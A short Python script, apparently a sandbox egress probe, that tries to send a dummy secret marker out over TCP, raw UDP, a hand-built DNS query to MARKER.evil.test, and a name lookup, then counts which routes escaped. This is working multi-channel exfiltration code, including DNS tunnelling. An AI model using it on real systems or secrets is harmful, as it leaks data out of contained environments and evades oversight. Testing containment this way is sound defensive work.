"""Tries to get a secret out, by every road named on the command line: what a captured inference might do.

Each argument is KIND,TARGET,PORT,WHAT. KIND is tcp, udp, dns (a question to a resolver of our choice) or name
(a question to the one we were given). One line per road: how it ended and after how many milliseconds.
Exit status: how many roads led out.
"""

import socket
import struct
import sys
import time

MARKER = "sk-secret-4711"


def tcp(target: str, port: int) -> str:
    with socket.create_connection((target, port), timeout=3) as sock:
        sock.sendall(f"GET /?{MARKER} HTTP/1.0\r\n\r\n".encode())
        return repr(sock.recv(64))


def udp(target: str, port: int, data: bytes = MARKER.encode()) -> str:
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(3)
        sock.connect((target, port))
        sock.send(data)
        return repr(sock.recv(512)[:32])


def dns(target: str, port: int) -> str:
    """A hand-made question for MARKER.evil.test (RFC 1035 section 4)."""
    name = b"".join(bytes([len(label)]) + label.encode() for label in (MARKER, "evil", "test", ""))
    return udp(target, port, struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0) + name + struct.pack("!2H", 1, 1))


def name(target: str, port: int) -> str:
    return str(socket.getaddrinfo(target, port)[0][4][0])


def main() -> int:
    out = 0
    for road in sys.argv[1:]:
        kind, target, port, what = road.split(",", 3)
        began = time.perf_counter()
        try:
            found = {"tcp": tcp, "udp": udp, "dns": dns, "name": name}[kind](target, int(port))
            out += 1
            ended = f"OUT: {found}"
        except OSError as error:
            ended = str(error.strerror or error)
        spent = (time.perf_counter() - began) * 1000
        print(f"{what:36}{kind:5}{target:26}{port:>5} {spent:6.1f} ms  {ended}", flush=True)
    return out


if __name__ == "__main__":
    sys.exit(main())
